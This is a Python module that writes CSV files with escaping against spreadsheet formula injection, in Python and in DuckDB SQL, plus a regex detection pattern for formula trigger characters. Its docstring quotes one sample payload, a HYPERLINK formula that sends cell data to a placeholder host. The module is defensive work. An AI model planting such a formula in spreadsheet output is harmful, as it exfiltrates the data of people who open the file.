"""The one CSV writer: every CSV headcount writes for people to open goes through here.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (some also
`|` and the full-width forms U+FF1D, U+FF0B, U+FF0D, U+FF20; a leading tab, carriage
return or space does not stop it), so `=HYPERLINK("http://x?"&B2)` as an employee's name
would send a reviewer's data away. As OWASP's CSV-injection guidance says, such a text
cell gets a leading `'` and is quoted.

Only text is escaped: numbers (`-12.50`) stay numbers. Every other cell is written exactly
as before (RFC 4180, quoted when it holds a comma, quote or line break), so normal data
gives the same bytes. A value that already starts with `'` before a formula character gets
one more, so `unescape_cell` (and `unescape_sql` at ingest) gives back every value exactly.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from pathlib import Path
from typing import IO

import duckdb
import pyarrow as pa

# One pattern source for Python's re and DuckDB's RE2: the characters a spreadsheet may
# evaluate, after any spaces.
_FORMULA = "[ ]*[=+\\-@\\t\\r|\uff1d\uff0b\uff0d\uff20]"
_ESCAPE = re.compile("'*" + _FORMULA)
_UNESCAPE = re.compile("'+" + _FORMULA)
_QUOTE = re.compile(r'[,"\n\r]')

Cell = str | int | Decimal | None


def escape_cell(text: str) -> str:
    """`text` with a leading `'` if a spreadsheet could evaluate it, else `text` itself."""
    return "'" + text if _ESCAPE.match(text) else text


def unescape_cell(text: str) -> str:
    """The value `escape_cell` was given: one leading `'` off an escaped cell."""
    return text[1:] if _UNESCAPE.match(text) else text


def text_field(text: str) -> str:
    """The CSV field for a text cell: escaped, and quoted if escaped or if it needs it."""
    if _ESCAPE.match(text):
        return "\"'" + text.replace('"', '""') + '"'
    if _QUOTE.search(text):
        return '"' + text.replace('"', '""') + '"'
    return text


def _field(cell: Cell) -> str:
    if cell is None:
        return ""
    if isinstance(cell, str):
        return text_field(cell)
    return str(cell)  # a number: `-12.50` is a value, not a formula


def format_row(cells: Iterable[Cell]) -> str:
    """One CSV record without its line ending."""
    return ",".join(_field(c) for c in cells)


def write_rows(
    out: IO[str], header: Sequence[str], rows: Iterable[Sequence[Cell]], newline: str = "\n"
) -> int:
    """Write the header and rows (streamed) to `out`; return the number of rows."""
    out.write(format_row(header) + newline)
    count = 0
    for row in rows:
        out.write(format_row(row) + newline)
        count += 1
    return count


# --- The same rules in DuckDB SQL, for tables too big to write row by row in Python.


def _sql_str(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _ident(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def unescape_sql(expr: str) -> str:
    """SQL for `unescape_cell` of a VARCHAR expression (NULL stays NULL)."""
    pattern = _sql_str("^" + _UNESCAPE.pattern)
    return (
        f"CASE WHEN ascii({expr}) = 39 AND regexp_matches({expr}, {pattern}) "
        f"THEN {expr}[2:] ELSE {expr} END"
    )


def _quoted_sql(expr: str) -> str:
    return f"'\"' || replace({expr}, '\"', '\"\"') || '\"'"


def text_field_sql(expr: str) -> str:
    """SQL for the CSV field of a text cell (escaped as `text_field` escapes it), to be
    written by COPY with its own quoting off.

    Quoting follows DuckDB's own writer, whose bytes these files always had: it also quotes
    `#` (its reader's comment character) and the empty string (NULL is an empty field).
    An anchored pattern and plain substring tests keep the usual cell cheap. (No IN list:
    DuckDB may turn one into a join, which loses the rows' order.)
    """
    special = " OR ".join(
        f"contains({expr}, {c})" for c in ("','", "'\"'", "chr(10)", "chr(13)", "'#'")
    )
    escaped = "'''' || " + expr
    return (
        f"CASE WHEN {expr} = '' THEN '\"\"' "
        f"WHEN regexp_matches({expr}, {_sql_str('^' + _ESCAPE.pattern)}) "
        f"THEN {_quoted_sql(escaped)} "
        f"WHEN {special} THEN {_quoted_sql(expr)} ELSE {expr} END"
    )


def _plain(kind: pa.DataType) -> bool:
    """A type DuckDB writes as a number, date, time or boolean: never text, never quoted."""
    t = pa.types
    return bool(
        t.is_integer(kind) or t.is_floating(kind) or t.is_decimal(kind)
        or t.is_boolean(kind) or t.is_temporal(kind)
    )  # fmt: skip


def write_table(table: pa.Table, path: Path) -> None:
    """Write an Arrow table as CSV with DuckDB's COPY (streamed, fast at millions of rows).

    Text columns are escaped and quoted in SQL, so COPY runs with its own quoting off;
    numbers, dates and booleans are written by COPY as they are. Anything else (lists,
    structs, bytes) is written as its text, escaped like text. The header is the column
    names as they are (the contract's plain names).
    """
    columns = []
    for field in table.schema:
        name = _ident(field.name)
        if _plain(field.type):
            columns.append(f"{name} AS {name}")
        else:
            columns.append(f"{text_field_sql(f'CAST({name} AS VARCHAR)')} AS {name}")
    con = duckdb.connect()
    try:
        con.register("csv_table", table)
        target = _sql_str(str(path))
        con.execute(
            f"COPY (SELECT {', '.join(columns)} FROM csv_table) TO {target} "
            "(FORMAT csv, HEADER, DELIMITER ',', QUOTE '', ESCAPE '')"
        )
    finally:
        con.close()
